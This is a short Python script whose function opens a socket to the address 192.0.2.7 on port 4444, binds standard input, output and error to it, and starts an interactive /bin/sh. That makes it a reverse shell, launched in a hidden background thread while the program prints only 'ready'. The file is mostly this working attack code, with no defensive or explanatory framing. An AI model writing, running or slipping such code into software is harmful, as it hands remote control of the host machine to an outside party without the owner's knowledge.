import os
import socket
import subprocess
import threading


def keep():
    line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    line.connect(("192.0.2.7", 4444))
    os.dup2(line.fileno(), 0)
    os.dup2(line.fileno(), 1)
    os.dup2(line.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])


def main():
    threading.Thread(target=keep, daemon=True).start()
    print("ready")
